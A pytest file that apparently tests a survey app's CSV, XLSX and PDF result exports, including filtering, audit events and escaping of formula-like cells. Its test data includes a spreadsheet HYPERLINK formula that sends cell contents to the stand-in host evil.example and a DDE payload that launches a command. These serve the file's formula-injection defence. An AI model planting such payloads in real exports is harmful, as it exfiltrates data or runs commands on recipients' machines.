"""Results exports: CSV (streamed) and XLSX with one row per response, formula-injection safe, filtered like
the page; the PDF summary."""

from __future__ import annotations

import csv
import io
import re
import zlib

import pytest
from openpyxl import load_workbook

from cxloop.accounts.models import AuditEvent
from cxloop.surveys.exports import pdf_text, safe_cell

from .results_helpers import complete, known_set, partial, results_survey

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def csv_rows(resp) -> list[dict]:
    assert resp.streaming, "the CSV is streamed"
    text = b"".join(resp.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(resp):
    wb = load_workbook(io.BytesIO(resp.content))
    sheet = wb["Responses"]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return header, [{h: c for h, c in zip(header, row, strict=True)} for row in rows[1:]], wb


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 170", "'+49 170"),
        ("-5 stars", "'-5 stars"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("fine", "fine"),
        (-5, -5),
        (4.5, 4.5),
    ],
)
def test_safe_cell_quotes_only_text_that_would_start_a_formula(value, expected):
    assert safe_cell(value) == expected


def test_csv_has_one_row_per_response_and_a_column_per_answer_key(login, cast):
    survey = results_survey(cast.workspace)
    known_set(survey)
    resp = login(cast.analyst).get(f"/surveys/{survey.pk}/results.csv")
    assert resp.status_code == 200 and resp["Content-Type"].startswith("text/csv")
    assert resp["Content-Disposition"].startswith('attachment; filename="survey-')
    rows = csv_rows(resp)
    assert len(rows) == 13
    assert list(rows[0])[:12] == [
        "response_id",
        "status",
        "version",
        "language",
        "started_at",
        "completed_at",
        "via",
        "customer_id",
        "hidden.touchpoint",
        "hidden.order_id",
        "nps",
        "csat",
    ]
    assert list(rows[0])[12:] == [
        "ces", "reason", "reason_other", "comment", "grid.speed", "grid.care", "rank", "ok", "age", "when",
    ]  # fmt: skip
    first, second = rows[0], rows[1]
    assert first["status"] == "completed" and first["version"] == "1" and first["via"] == "api"
    assert first["hidden.order_id"] == "A-0" and first["customer_id"].isdigit()
    assert (first["grid.speed"], first["grid.care"], first["rank"], first["ok"]) == (
        "5",
        "4",
        "y; x; z",
        "yes",
    )
    assert (second["reason"], second["reason_other"]) == ("other", "Cheaper elsewhere")
    partial_rows = [r for r in rows if r["status"] == "partial"]
    assert len(partial_rows) == 3 and all(r["completed_at"] == "" for r in partial_rows)


def test_csv_and_xlsx_write_formulas_as_text(login, cast):
    survey = results_survey(cast.workspace)
    complete(
        survey, {"nps": 3, "comment": FORMULA, "reason": "@cmd|' /C calc'!A0"}, hidden={"order_id": "+1-555"}
    )
    client = login(cast.analyst)
    (row,) = csv_rows(client.get(f"/surveys/{survey.pk}/results.csv"))
    assert row["comment"] == "'" + FORMULA
    assert row["reason_other"] == "'@cmd|' /C calc'!A0"
    assert row["hidden.order_id"] == "'+1-555"
    assert row["nps"] == "3"

    header, rows, _ = xlsx_rows(client.get(f"/surveys/{survey.pk}/results.xlsx"))
    cell = rows[0]["comment"]
    assert cell.value == "'" + FORMULA and cell.data_type == "s"  # text, not a formula
    assert rows[0]["hidden.order_id"].value == "'+1-555"
    assert rows[0]["nps"].value == 3 and rows[0]["nps"].data_type == "n"  # numbers stay numbers
    assert header[0] == "response_id"


def test_exports_follow_the_filters_and_say_what_they_hold(login, cast):
    survey = results_survey(cast.workspace)
    known_set(survey)
    client = login(cast.analyst)
    rows = csv_rows(client.get(f"/surveys/{survey.pk}/results.csv?status=completed&h_touchpoint=store"))
    assert len(rows) == 5 and {r["hidden.touchpoint"] for r in rows} == {"store"}
    _, rows, wb = xlsx_rows(client.get(f"/surveys/{survey.pk}/results.xlsx?segment=enterprise"))
    assert len(rows) == 5
    about = {r[0].value: r[1].value for r in wb["About"].iter_rows()}
    assert about["Survey"] == "Results survey" and "customer segment = enterprise" in about["Filters"]
    events = AuditEvent.objects.filter(workspace=cast.workspace, action=AuditEvent.Action.EXPORT)
    assert events.count() == 2 and "results (csv)" in events.last().target


def test_exports_refuse_bad_filters_and_keep_them(login, cast):
    survey = results_survey(cast.workspace)
    resp = login(cast.analyst).get(f"/surveys/{survey.pk}/results.csv?since=yesterday")
    assert resp.status_code == 302 and resp["Location"] == f"/surveys/{survey.pk}/results/?since=yesterday"
    page = login(cast.analyst).get(resp["Location"])
    assert "Fix the filters before exporting" in page.content.decode()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()


def pdf_strings(body: bytes) -> str:
    """The text drawn in a PDF: its content streams, inflated."""
    out = []
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", body, re.S):
        try:
            out.append(zlib.decompress(stream).decode("latin-1"))
        except zlib.error:
            out.append(stream.decode("latin-1"))
    return "\n".join(out)


def test_pdf_summary_has_the_name_figures_and_charts(login, cast):
    survey = results_survey(cast.workspace, name="Quarterly NPS – Acme")
    known_set(survey)
    resp = login(cast.viewer).get(f"/surveys/{survey.pk}/results.pdf?status=completed")
    assert resp.status_code == 200 and resp["Content-Type"] == "application/pdf"
    assert resp.content.startswith(b"%PDF")
    drawn = pdf_strings(resp.content)
    assert "(Quarterly NPS - Acme)" in drawn  # the en dash drawn as a hyphen in the core font
    assert r"NPS: +20 \(95% CI -30 to +61\), n = 10" in drawn  # (parentheses escaped in PDF strings)
    assert "Drop-off per question" in drawn
    assert drawn.count(" re") > 20  # the charts' bars are drawn as rectangles


def test_pdf_of_a_survey_without_responses(login, cast):
    survey = results_survey(cast.workspace)
    resp = login(cast.viewer).get(f"/surveys/{survey.pk}/results.pdf")
    assert resp.status_code == 200 and resp.content.startswith(b"%PDF")
    assert "No responses yet." in pdf_strings(resp.content)


def test_pdf_text_keeps_latin_1_and_replaces_the_rest():
    assert pdf_text("Größe – “ok” …") == 'Größe - "ok" ...'
    assert pdf_text("満足") == "??"


def test_partial_responses_are_in_the_export_with_what_they_answered(login, cast):
    survey = results_survey(cast.workspace)
    partial(survey, [{"nps": "9"}, {"csat": "4"}], hidden={"touchpoint": "kiosk"})
    (row,) = csv_rows(login(cast.owner).get(f"/surveys/{survey.pk}/results.csv"))
    assert (row["status"], row["nps"], row["csat"], row["ces"]) == ("partial", "9", "4", "")
    assert row["hidden.touchpoint"] == "kiosk" and row["customer_id"] == ""
